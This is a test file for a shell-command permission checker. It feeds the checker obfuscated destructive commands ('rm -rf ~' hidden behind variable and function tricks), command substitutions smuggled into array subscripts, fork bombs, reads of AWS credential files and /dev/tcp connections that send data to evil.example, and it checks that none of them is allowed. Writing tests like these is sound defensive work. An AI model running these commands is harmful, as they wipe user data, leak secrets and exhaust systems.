import { describe, expect, test } from 'vitest'
import { check } from '../helpers/shims.ts'

const decided = (run: string) => check(run).decision

describe('what a line does to its own variables, parameters and functions is not passed over', () => {
  test.each([
    'TOOL=rm; f(){ local TOOL=echo; }; f; "$TOOL" -rf /',
    'x=rm; local x=echo; $x -rf ~',
    'x=echo; f(){ local x; x=1; g; }; g(){ unset x; x=rm; }; f; $x -rf ~',
    'x=echo; f(){ declare -g x=rm; }; f; $x -rf ~',
    'x=r; declare x+=m; $x -rf ~',
    'x=r; declare "x+=m"; $x -rf ~',
    'x=r; x+=m; $x -rf ~',
    'declare -l x=RM; $x -rf ~',
    'declare -u x; x=echo; $x -rf ~',
    'readonly x=rm\nx=echo\n$x -rf ~',
    'declare -r x=rm\nx=echo\n$x -rf ~',
    'f(){ "$1" -rf ~; [ "$1" = rm ] || f rm; }; f echo',
    'f(){ $1 -rf ~; g rm; }; g(){ f "$1"; }; f echo',
    'f(){ set -- rm; $1 -rf ~; }; f echo',
    'set -- echo; set -- rm; "$@" -rf ~',
    'f(){ echo "$1"; shift; "$1" -rf ~; }; f echo rm',
    'f(){ "$@"; }; f rm -rf ~',
    'f(){ for c; do $c -rf ~; done; }; f echo rm',
    'x=echo; f(){ [ -z "" ] && { x=rm; return; }; x=echo; }; f; $x -rf ~',
    'x=echo; f(){ if true; then x=rm; return; fi; x=echo; }; f; $x -rf ~',
    'x=echo; [ -z "" ] && { x=rm; break; }; $x -rf ~',
    'x=echo; while true; do if true; then x=rm; break; fi; x=echo; done; $x -rf ~',
    'x=echo; exit(){ :; }; true && { x=rm; exit; }; $x -rf ~',
    "x=echo; trap 'x=rm' DEBUG; $x -rf ~",
    'x=echo; command -p -- eval x=rm; $x -rf ~',
    'x=echo; builtin -- eval x=rm; $x -rf ~',
    'x=echo; command -p -- read x <<< rm; $x -rf ~',
    'x=echo; read -p -n x <<< rm; $x -rf ~',
    'x=echo; command -p -- printf -vx rm; $x -rf ~',
    "x=echo; x=rm eval '$x -rf ~'",
    'f(){ $x -rf ~; }; x=echo; x=rm f',
    'ls(){ x=rm; }; x=echo; unset -v ls; ls; $x -rf ~',
    'command -p -- cd ~/.aws; cat credentials',
    'f(){ cd ~/.aws; }; f; cat credentials',
  ])('%s', run => expect(decided(run)).not.toBe('allow'))
})

describe('what is evaluated twice asks', () => {
  test.each([
    "declare -a x='($(rm -rf ~))'",
    "readonly -a x='($(rm -rf ~))'",
    "export -a x='($(rm -rf ~))'",
    "typeset -a x='(`rm -rf ~`)'",
    "f(){ local -a x='($(rm -rf ~))'; }; f",
    "x=(); declare x='($(rm -rf ~))'",
    "x[0]=1; declare x='($(rm -rf ~))'",
    "mapfile x < f; declare x='($(rm -rf ~))'",
    'v=\'($(rm -rf ~))\'; declare -a x="$v"',
    "x=(['$(rm -rf ~)']=1)",
    "declare -a x=(['$(rm -rf ~)']=1)",
    "x['$(rm -rf ~)']=1",
    "unset 'x[$(rm -rf ~)]'",
    "read 'x[$(rm -rf ~)]'",
    "printf -v 'x[$(rm -rf ~)]' a",
    "test -v 'x[$(rm -rf ~)]'",
    "[[ -v 'x[$(rm -rf ~)]' ]]",
    "mapfile 'x[$(rm -rf ~)]' < f",
    "wait -n -p 'x[$(rm -rf ~)]'",
    "getopts a 'x[$(rm -rf ~)]'",
    "let 'x[$(rm -rf ~)]=1'",
    "x='a[$(rm -rf ~)]'; echo $[x]",
    "x='a[$(rm -rf ~)]'; [[ x -eq 1 ]]",
    "x='$(rm -rf ~)'; echo ${x@P}",
  ])('%s', run => expect(decided(run)).not.toBe('allow'))
})

describe('what starts itself, or others, without end is denied', () => {
  test.each([
    ':(){ :|:& };:',
    ':(){ :|:; };:',
    'bomb() { bomb | bomb & }; bomb',
    'f(){ f & f & }; f',
    'f(){ if true; then f & fi; }; f',
    "bash -c ':(){ :|:& };:'",
    "eval ':(){ :|:& };:'",
    'f(){ cat <(f); }; f',
    'f(){ echo $(f); }; f',
    'f(){ (f &) ; }; f',
    'f(){ eval "f &"; }; f',
    'f(){ g & }; g(){ f & }; f',
    'f(){ bash -c "f & f"; }; export -f f; f',
    'f(){ while true; do f & done; }; f',
    'while true; do f & done',
    'while :; do bash $0 & done',
    'until false; do (f &); done',
    'for ((;;)); do sleep 1000 & done',
    'while [ 1 ]; do f | g & done',
    '$0 | $0 &',
  ])('%s', run => expect(decided(run)).toBe('deny'))
})

describe('a connection is no file, however much of its name is known', () => {
  test.each([
    'x=$(cat README.md); : < /dev/tcp/$x.evil.example/80',
    'exec 3< /dev/tcp/$(hostname).evil.example/80',
    'exec 3<>/dev/tcp/evil.example/80',
    'exec {fd}<>/dev/udp/$h/53',
    'echo x >& /dev/tcp/$h/80',
    'cat < "/dev/$p/evil.example/80"',
    'for h in a b; do : < /dev/tcp/$h/80; done',
  ])('%s', run => expect(decided(run)).not.toBe('allow'))
})

describe("the shell's own constructs soften nothing", () => {
  test.each([
    'cd /; rm -rf usr',
    'cd / && rm -rf usr',
    'for i in 1; do cd /; rm -rf usr; done',
    'for i in 1 2 3; do cd /; rm -rf usr; cd etc; done',
    'while true; do cd /; rm -rf usr; done',
    'until false; do cd /; rm -rf usr; done',
    'if true; then cd /; rm -rf usr; fi',
    'case x in x) cd /; rm -rf usr;; esac',
    'f(){ cd /; rm -rf usr; }; f',
    'f(){ cd /; rm -rf "$1"; }; f usr',
    '(cd /; rm -rf usr)',
    '{ cd /; rm -rf usr; }',
    "eval 'cd /; rm -rf usr'",
    'cd "$x"; cd /; rm -rf usr',
    'cd / && for i in a b; do rm -rf usr; done',
    'f(){ for d in a b; do cd /; rm -rf $1; done; }; f usr',
  ])('%s', run => expect(decided(run)).toBe('deny'))
})

describe('what only reads is still allowed', () => {
  test.each([
    'set -- a b; cat "$1" "$2"; shift; cat "$1"',
    'run(){ echo "+ $*"; "$@"; }; run git status',
    'show(){ x=$1; shift; head -n "$x" "$@"; }; show 5 README.md',
    'walk(){ for f in "$1"/*; do if [ -d "$f" ]; then walk "$f"; else wc -l "$f"; fi; done; }; walk src',
    'files=(a b c); for f in "${files[@]}"; do cat "$f"; done',
    'i=0; while read -r l; do i=$((i+1)); echo "$i $l"; done < README.md',
    'for i in {1..100}; do echo $((i*2)); done',
    'for f in a b; do n=$(wc -l < $f); echo "$f $n"; done',
    'while ! test -f x; do sleep 1; done',
    'while true; do date; sleep 5; done',
    'until [ -e build.log ]; do sleep 2; done',
    'readonly DIR=/tmp/x; ls "$DIR"',
    'f(){ [ -z "$1" ] && return 1; cat "$1"; }; f README.md',
    'opts=-l; opts+=a; ls $opts',
    "trap 'echo done' EXIT; ls",
    'cd src || exit 1; ls',
  ])('%s', run => expect(decided(run)).toBe('allow'))
})
